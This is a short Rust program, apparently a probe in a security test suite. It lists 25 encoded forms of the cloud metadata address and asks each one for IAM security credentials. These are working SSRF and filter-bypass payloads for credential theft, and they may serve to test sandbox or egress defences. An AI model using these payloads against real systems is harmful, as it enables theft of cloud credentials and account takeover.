//! Asks for the address where clouds hand out credentials, spelled in every way.

use std::process::ExitCode;

use hostile::Attack;
use hostile::requests::attempt;

const AUTHORITIES: [&str; 25] = [
    "169.254.169.254",
    "169.254.169.254:80",
    "169.254.169.254.",
    "2852039166",
    "0xa9fea9fe",
    "0xA9.0xFE.0xA9.0xFE",
    "0251.0376.0251.0376",
    "025177524776",
    "169.254.43518",
    "169.16689662",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[0:0:0:0:0:ffff:a9fe:a9fe]",
    "[::a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::]",
    "[fd00:ec2::254]",
    "[fe80::a9fe:a9fe]",
    "[fe80::1%25eth0]",
    "100.100.100.200",
    "192.0.0.192",
    "metadata.google.internal",
    "169。254。169。254",
    "１６９.２５４.１６９.２５４",
    "%31%36%39.254.169.254",
];

fn main() -> ExitCode {
    let mut attack = Attack::start();
    for authority in AUTHORITIES {
        attempt(&mut attack, &format!("http://{authority}/latest/meta-data/iam/security-credentials/"));
    }
    attack.finish()
}
